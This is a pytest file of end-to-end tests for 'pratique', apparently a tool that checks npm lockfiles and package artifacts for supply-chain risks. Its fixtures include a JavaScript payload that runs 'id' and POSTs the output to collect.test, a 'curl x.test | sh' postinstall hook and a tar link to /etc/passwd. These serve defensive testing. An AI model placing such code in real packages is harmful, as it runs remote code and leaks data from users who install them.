"""Layer 9 in `check`: what is fetched and read, what is compared, and what a user is told."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest
from tests import tars
from tests.e2e.checking import (
    LOCK,
    User,
    Work,
    action,
    address,
    days_ago,
    entry,
    loud,
    make_user,
    npm,
    rules,
    undecided,
    user,
    work,
)
from tests.registry import Registry, Shelved, faults

from pratique.errors import Exit
from pratique.model.policy import Action, Verdict
from pratique.model.report import Judged, Report

__all__ = ["user", "work"]

GAIN = "behavior/new-capability"
CALM = "module.exports = name => `hello ${name}`;\n"
HOSTILE = """\
const {exec} = require('child_process');

exec('id', (_error, out) => fetch('https://collect.test/x', {method: 'POST', body: out}));
module.exports = name => `hello ${name}`;
"""
NAMES = ("one", "two", "three", "four", "five")


def publish(registry: Registry, name: str, version: str, code: str = CALM, **more: Any) -> Shelved:
    return registry.publish(
        name, version, files={"index.js": code, **more.pop("files", {})}, **more
    )


@pytest.fixture
def five(registry: Registry) -> dict[str, Shelved]:
    return {name: publish(registry, name, "1.0.0", f"{CALM}// {name}\n") for name in NAMES}


def locked(registry: Registry, releases: Iterable[Shelved]) -> dict[str, str]:
    return npm({each.name: entry(registry, each) for each in releases})


def fetched(registry: Registry) -> list[str]:
    """File names of the artifacts that were asked for, each as often as it was."""
    return sorted(one.path.rpartition("/")[2] for one in registry.asked("*.tgz"))


def file_names(releases: Iterable[Shelved]) -> list[str]:
    return sorted(each.file_name for each in releases)


def of_layer(report: Report) -> str:
    return next(row.summary for row in report.layers if row.name == "behavior")


def found(report: Report, rule: str) -> Judged:
    (one,) = [each for each in report.judged if each.finding.rule == rule]
    return one


# -- what is fetched -------------------------------------------------------------------------------


def test_a_first_check_reads_every_artifact_once(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    work.write(locked(registry, five.values()))
    report = user.check(work.folder)
    assert fetched(registry) == file_names(five.values())
    assert of_layer(report).startswith("5 releases")
    assert (rules(report), report.exit) == ([], Exit.ALLOWED)


def test_a_release_that_is_locked_twice_is_read_once(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    entries = {name: entry(registry, each) for name, each in five.items()}
    work.write(npm({**entries, "two/node_modules/one": entries["one"]}, direct=NAMES))
    user.check(work.folder)
    assert fetched(registry) == file_names(five.values())


def test_the_same_bytes_in_another_project_are_not_read_again(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved], tmp_path: Path
) -> None:
    work.write(locked(registry, five.values()))
    user.check(work.folder)
    registry.forget()
    other = Work(tmp_path / "other")
    other.write(locked(registry, [five["one"], five["two"]]))
    user.check(other.folder)
    assert registry.requests == []


def test_a_second_check_asks_nothing_and_says_the_same(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    work.write(locked(registry, five.values()))
    first = user.check(work.folder)
    registry.forget()
    again = user.check(work.folder)
    assert registry.requests == []
    assert (again.judged, again.unknowns, again.layers) == (
        first.judged, first.unknowns, first.layers,
    )  # fmt: skip


def test_one_new_dependency_is_one_new_artifact(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    *before, new = five.values()
    work.write(locked(registry, before))
    user.check(work.folder)
    registry.forget()
    work.write(locked(registry, five.values()))
    user.check(work.folder)
    assert fetched(registry) == [new.file_name]
    assert {one.path.split("/")[1] for one in registry.requests} == {new.name}


@pytest.mark.parametrize("is_known", [True, False], ids=["warm", "elsewhere"])
def test_one_updated_dependency_is_its_artifact_and_its_baseline(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved], *, is_known: bool
) -> None:
    """On a machine that looked at the base the baseline is known, too."""
    work.begin(locked(registry, five.values()))
    if is_known:
        user.check(work.folder)
        registry.forget()
    update = publish(registry, "three", "1.0.1")
    work.commit(locked(registry, (five | {"three": update}).values()))
    report = user.check(work.folder, base="main")
    old = [] if is_known else [five["three"].file_name]
    assert fetched(registry) == sorted([update.file_name, *old])
    assert {one.path.split("/")[1] for one in registry.requests} == {"three"}
    assert of_layer(report).startswith("1 releases")
    registry.forget()
    user.check(work.folder, base="main")
    assert registry.requests == []


def test_what_a_change_leaves_alone_is_neither_read_nor_judged(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    bad = publish(registry, "bad", "1.0.0", HOSTILE, scripts={"postinstall": "curl x.test | sh"})
    work.begin(locked(registry, [*five.values(), bad]))
    work.commit(locked(registry, [*five.values(), bad, publish(registry, "six", "1.0.0")]))
    report = user.check(work.folder, base="main")
    assert fetched(registry) == ["six-1.0.0.tgz"]
    assert rules(report) == []


# -- what is compared ------------------------------------------------------------------------------


def updated(
    registry: Registry, work: Work, before: Mapping[str, Any], after: Mapping[str, Any]
) -> Shelved:
    """A change that moves `widget` from 1.0.0 to 1.0.1, and no other release."""
    steady = publish(registry, "steady", "1.0.0", HOSTILE)
    old = publish(registry, "widget", "1.0.0", **before)
    new = publish(registry, "widget", "1.0.1", **{"published": days_ago(5), **after})
    work.begin(locked(registry, [steady, old]))
    work.commit(locked(registry, [steady, new]))
    return new


def test_a_hostile_update_is_blocked_with_the_line_and_the_code_that_is_new(
    registry: Registry, work: Work, user: User
) -> None:
    new = updated(registry, work, {}, {"code": HOSTILE})
    report = user.check(work.folder, base="main")
    one = found(report, GAIN)
    assert (one.action, report.exit) == (Action.BLOCK, Exit.BLOCKED)
    assert one.finding.message.endswith("(compared with 1.0.0)")
    lines = [line.text for line in one.finding.evidence]
    assert any(
        line.startswith("A exec.process") and "index.js:1" in line and "child_process" in line
        for line in lines
    ), lines
    assert any("net.host:collect.test" in line and "index.js:3" in line for line in lines), lines
    assert {str(each.finding.release) for each in loud(report)} == {f"widget@{new.version}"}


@pytest.mark.parametrize("form", ["text", "markdown", "json"])
def test_every_form_that_shows_evidence_shows_the_code(
    form: str, registry: Registry, work: Work, user: User
) -> None:
    updated(registry, work, {}, {"code": HOSTILE})
    ran = user.run("check", ".", "--base", "main", "--format", form, cwd=work.folder)
    assert ran.returncode == 1, ran.stdout + ran.stderr
    assert "index.js:1" in ran.stdout
    assert "child_process" in ran.stdout
    assert GAIN in ran.stdout


def test_an_update_that_gains_nothing_is_let_in(registry: Registry, work: Work, user: User) -> None:
    updated(registry, work, {"code": HOSTILE}, {"code": HOSTILE + "// 2\n"})
    report = user.check(work.folder, base="main")
    assert (rules(report), report.exit) == ([], Exit.ALLOWED)


def test_it_is_compared_with_what_the_base_locks_and_not_with_what_lies_between(
    registry: Registry, work: Work, user: User
) -> None:
    """What 1.0.1 brought in is new to who had 1.0.0."""
    old = publish(registry, "widget", "1.0.0")
    publish(registry, "widget", "1.0.1", HOSTILE)
    new = publish(registry, "widget", "1.0.2", HOSTILE)
    work.begin(locked(registry, [old]))
    work.commit(locked(registry, [new]))
    report = user.check(work.folder, base="main")
    assert found(report, GAIN).finding.message.endswith("(compared with 1.0.0)")
    assert "widget-1.0.1.tgz" not in fetched(registry)


def test_two_locked_versions_of_one_line_are_what_a_third_is_compared_with(
    registry: Registry, work: Work, user: User
) -> None:
    writes = "require('fs').writeFileSync('a', 'b');\n" + CALM
    first = publish(registry, "widget", "1.0.0", writes)
    second = publish(registry, "widget", "1.1.0", HOSTILE)
    third = publish(registry, "widget", "1.2.0", writes + HOSTILE)
    keys = ("widget", "steady/node_modules/widget")
    steady = entry(registry, publish(registry, "steady", "1.0.0"))
    both = [entry(registry, each) for each in (first, second)]
    work.begin(npm({"steady": steady, **dict(zip(keys, both, strict=True))}, direct=["steady"]))
    work.commit(npm({"steady": steady, "widget": entry(registry, third)}, direct=["steady"]))
    assert rules(user.check(work.folder, base="main")) == []


def test_a_release_below_all_others_is_compared_with_what_the_base_locks(
    registry: Registry, work: Work, user: User
) -> None:
    """A line of its own below the others makes it no first install."""
    old = publish(registry, "widget", "2.0.0")
    new = publish(registry, "widget", "1.0.0", HOSTILE)
    work.begin(locked(registry, [old]))
    work.commit(locked(registry, [new]))
    report = user.check(work.folder, base="main")
    assert found(report, GAIN).finding.message.endswith("(compared with 2.0.0)")
    assert report.exit is Exit.BLOCKED


def test_a_new_dependency_of_an_update_is_held_where_it_runs_code_at_install(
    registry: Registry, work: Work, user: User
) -> None:
    """One line of a manifest, and not one of code."""
    old = publish(registry, "widget", "1.0.0")
    new = publish(registry, "widget", "1.0.1", dependencies={"helper": "^1.0.0"})
    helper = publish(registry, "helper", "1.0.0", scripts={"postinstall": "node index.js"})
    work.begin(locked(registry, [old]))
    work.commit(
        npm({each.name: entry(registry, each) for each in (new, helper)}, direct=["widget"])
    )
    report = user.check(work.folder, base="main")
    gained = [each for each in report.judged if each.finding.rule == GAIN]
    assert [str(each.finding.release) for each in gained] == ["widget@1.0.1"]
    assert "dep.new:installs/helper" in gained[0].finding.message
    assert gained[0].verdict >= Verdict.QUARANTINE


def test_and_is_recorded_where_it_is_old_and_runs_nothing(
    registry: Registry, work: Work, user: User
) -> None:
    old = publish(registry, "widget", "1.0.0")
    new = publish(registry, "widget", "1.0.1", dependencies={"helper": "^1.0.0"})
    helper = publish(registry, "helper", "1.0.0")
    work.begin(locked(registry, [old]))
    work.commit(
        npm({each.name: entry(registry, each) for each in (new, helper)}, direct=["widget"])
    )
    report = user.check(work.folder, base="main")
    assert action(report, GAIN) is Action.OBSERVE
    assert report.exit is Exit.ALLOWED


def test_without_a_base_nothing_is_new_and_that_is_said(
    registry: Registry, work: Work, user: User
) -> None:
    work.write(locked(registry, [publish(registry, "widget", "1.0.1", HOSTILE)]))
    report = user.check(work.folder)
    one = found(report, "behavior/no-baseline")
    assert (one.action, report.exit) == (Action.OBSERVE, Exit.ALLOWED)
    assert "can exec.process" in one.finding.message


# -- what cannot be read, or does not come ---------------------------------------------------------


UNREADABLE = {
    "two manifests": tars.package(tars.manifest(b'{"name": "odd", "version": "1.0.0"}')),
    "cut off": tars.package(end=b"")[:-9],
    "a link out": tars.package(tars.link("package/a", "../../../etc/passwd")),
    "no archive": b"hello",
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_an_archive_that_cannot_be_analysed_is_blocked(
    name: str, registry: Registry, work: Work, user: User
) -> None:
    odd = publish(registry, "odd", "1.0.0")
    odd.tarball = UNREADABLE[name]
    signature = registry.key.sign(f"odd@1.0.0:{odd.integrity}")
    odd.metadata["dist"] |= {
        "integrity": odd.integrity, "shasum": odd.shasum, "signatures": [signature]
    }  # fmt: skip
    work.write(locked(registry, [odd, publish(registry, "fine", "1.0.0")]))
    report = user.check(work.folder)
    assert (rules(report), report.exit) == (["behavior/unanalysable"], Exit.BLOCKED)
    ran = user.run("check", ".", cwd=work.folder)
    assert (ran.returncode, "behavior/unanalysable" in ran.stdout) == (1, True)


NEEDS_BYTES = {
    "behavior/unanalysable", "behavior/new-capability", "behavior/no-baseline",
    "behavior/partly-read", "build-scripts/unstated", "lockfile/manifest-confusion",
}  # fmt: skip


@pytest.mark.parametrize(
    "fault",
    [faults.not_found(), faults.status(500), faults.truncated(), faults.other_bytes()],
    ids=["gone", "broken", "cut off", "other bytes"],
)
def test_an_artifact_that_does_not_come_leaves_its_release_undecided_and_no_other(
    fault: Any, registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    work.write(locked(registry, five.values()))
    registry.fault(fault, package="two", kind="tarball")
    report = user.check(work.folder)
    assert (rules(report), report.exit) == ([], Exit.UNDECIDED)
    assert undecided(report) == {(rule, "two@1.0.0", "failed") for rule in NEEDS_BYTES}
    registry.heal()
    assert user.check(work.folder).exit is Exit.ALLOWED, "what failed is not kept"


def test_a_baseline_that_does_not_come_leaves_an_update_undecided(
    registry: Registry, work: Work, user: User
) -> None:
    """It is no first install for that, which nothing would be new in."""
    updated(registry, work, {}, {"code": HOSTILE})
    registry.fault(faults.not_found(), path="*widget-1.0.0.tgz")
    report = user.check(work.folder, base="main")
    assert (rules(report), report.exit) == ([], Exit.UNDECIDED)
    assert {rule for rule, _, _ in undecided(report)} == {GAIN, "behavior/no-baseline"}


def test_offline_what_was_never_read_is_undecided_and_what_was_is_not(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    *before, new = five.values()
    work.write(locked(registry, before))
    user.check(work.folder)
    work.write(locked(registry, five.values()))
    registry.forget()
    report = user.check(work.folder, offline=True)
    assert report.exit is Exit.UNDECIDED
    missing = {(rule, release) for rule, release, _ in undecided(report)}
    assert {release for _, release in missing} == {f"{new.name}@1.0.0"}
    assert {rule for rule, _ in missing} >= NEEDS_BYTES
    assert registry.requests == []


def test_a_past_that_was_replaced_by_a_worse_one_hides_nothing(
    registry: Registry, work: Work, user: User
) -> None:
    """The base's digest says what the past was."""
    updated(registry, work, {}, {"code": HOSTILE})
    with Registry() as other:
        publish(other, "widget", "1.0.0", HOSTILE)
        replaced = other.release("widget", "1.0.0")
        registry.fault(faults.other_bytes(replaced.bytes), path="*widget-1.0.0.tgz")
        report = user.check(work.folder, base="main")
    assert report.exit is Exit.UNDECIDED


# -- what is really inside, for layers 1 and 3 -----------------------------------------------------

UNSTATED, CONFUSED = "build-scripts/unstated", "lockfile/manifest-confusion"
GYP = '{"targets": [{"target_name": "x", "sources": ["<!(node index.js)"]}]}\n'


def inside(registry: Registry, name: str) -> Shelved:
    match name:
        case "a script that the document leaves out":
            return publish(
                registry, "sly", "1.0.0", packed={"scripts": {"postinstall": "node index.js"}}
            )
        case "a binding.gyp that nothing names":
            return publish(
                registry, "sly", "1.0.0", files={"binding.gyp": GYP}, gypfile=False,
                packed={"gypfile": None}, metadata={"scripts": None, "gypfile": None},
            )  # fmt: skip
        case _:
            with Registry() as aside:
                inner = publish(aside, "inner", "1.0.0", scripts={"install": "node index.js"})
            return publish(registry, "sly", "1.0.0", bundled=[inner])


INSIDE = {
    "a script that the document leaves out": ("postinstall: node index.js", {UNSTATED, CONFUSED}),
    "a binding.gyp that nothing names": ("install: node-gyp rebuild", {UNSTATED}),
    "a script of a bundled package": (
        "node_modules/inner/package.json: install: node index.js",
        {UNSTATED},
    ),
}


@pytest.mark.parametrize("name", INSIDE)
def test_what_runs_at_install_is_seen_although_the_registry_hides_it(
    name: str, registry: Registry, work: Work, user: User
) -> None:
    sly = inside(registry, name)
    told, expected = INSIDE[name]
    work.write(npm({"sly": entry(registry, sly, hasInstallScript=None)}))
    report = user.check(work.folder)
    assert set(rules(report)) == expected
    assert told in [line.text for line in found(report, UNSTATED).finding.evidence]
    assert (report.exit is Exit.BLOCKED) == (CONFUSED in expected)


@pytest.mark.parametrize("name", INSIDE)
def test_it_can_be_approved_for_these_bytes_and_its_printed_line_does_so(
    name: str, registry: Registry, work: Work, user: User
) -> None:
    sly = inside(registry, name)
    work.write(npm({"sly": entry(registry, sly, hasInstallScript=None)}))
    remedy = found(user.check(work.folder), UNSTATED).finding.remedy
    assert remedy is not None
    work.write({"pratique.toml": remedy.edits[0].new})
    assert UNSTATED not in rules(user.check(work.folder))


@pytest.mark.parametrize("name", INSIDE)
def test_accepting_its_bytes_is_not_letting_it_run(
    name: str, registry: Registry, work: Work, user: User, tmp_path: Path
) -> None:
    sly = inside(registry, name)
    work.write(npm({"sly": entry(registry, sly, hasInstallScript=None)}))
    ran = user.run(
        "accept", "sly@1.0.0", "--why", "looked", "--by", "a@mail.example", cwd=work.folder
    )
    assert ran.returncode == 0, ran.stdout + ran.stderr
    other = make_user(tmp_path / "other", f"registry={registry.url}")
    registry.forget()
    report = other.check(work.folder)
    assert fetched(registry) == []
    assert rules(report) == ["build-scripts/undecided"]


def test_what_is_stated_is_told_once(registry: Registry, work: Work, user: User) -> None:
    native = publish(registry, "native", "1.0.0", scripts={"install": "make"})
    gyp = publish(registry, "gyp", "1.0.0", files={"binding.gyp": GYP})
    work.write(locked(registry, [native, gyp]))
    report = user.check(work.folder)
    assert set(rules(report)) == {"build-scripts/undecided"}


def test_a_git_source_can_run_what_it_prepares_with(
    registry: Registry, work: Work, user: User
) -> None:
    commit = "5f3c2e1d" * 5
    source = {"version": "1.0.0", "resolved": f"git+ssh://git@forge.example/a/b.git#{commit}"}
    work.write(npm({"sourced": source}, asks={"sourced": "git+ssh://git@forge.example/a/b.git"}))
    report = user.check(work.folder)
    assert "build-scripts/git-prepare" in rules(report)
    assert fetched(registry) == []


def test_another_manifest_inside_is_held_and_both_are_shown(
    registry: Registry, work: Work, user: User
) -> None:
    sly = publish(
        registry, "sly", "1.0.0", packed={"dependencies": {"evil": "1.0.0"}, "version": "1.0.1"}
    )
    work.write(locked(registry, [sly]))
    report = user.check(work.folder)
    one = found(report, CONFUSED)
    assert one.action is Action.QUARANTINE
    assert [line.text for line in one.finding.evidence] == [
        "dependency evil: inside 1.0.0, stated nothing",
        "version: inside 1.0.1, stated 1.0.0",
    ]


# -- entries that are re-pointed -------------------------------------------------------------------


def test_an_entry_that_is_re_pointed_says_the_same_warm_and_cold(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    moved = entry(registry, five["one"], resolved=address(registry, five["two"]))
    entries = {"one": moved, "two": entry(registry, five["two"])}
    work.write(npm(entries))
    cold = user.check(work.folder)
    warm = user.check(work.folder)
    assert "lockfile/not-bound" in rules(cold)
    assert (cold.judged, cold.unknowns) == (warm.judged, warm.unknowns)


class Counted:
    """A progress that only counts."""

    def __init__(self) -> None:
        self.totals: list[int] = []
        self.steps = 0

    def start(self, total: int) -> None:
        self.totals.append(total)

    def advance(self) -> None:
        self.steps += 1

    def finish(self) -> None:
        pass


def test_progress_is_told_of_artifacts_too(
    registry: Registry, work: Work, user: User, five: dict[str, Shelved]
) -> None:
    counted = Counted()
    work.write(locked(registry, five.values()))
    user.check(work.folder, progress=counted)
    assert 5 in counted.totals
    assert counted.steps == sum(counted.totals)


def test_json_names_what_was_gained(registry: Registry, work: Work, user: User) -> None:
    updated(registry, work, {}, {"code": HOSTILE})
    ran = user.run("check", LOCK, "--base", "main", "--format", "json", cwd=work.folder)
    document = json.loads(ran.stdout)
    (one,) = [each for each in document["findings"] if each["rule"] == GAIN]
    assert any("exec.process" in json.dumps(each) for each in one["evidence"])
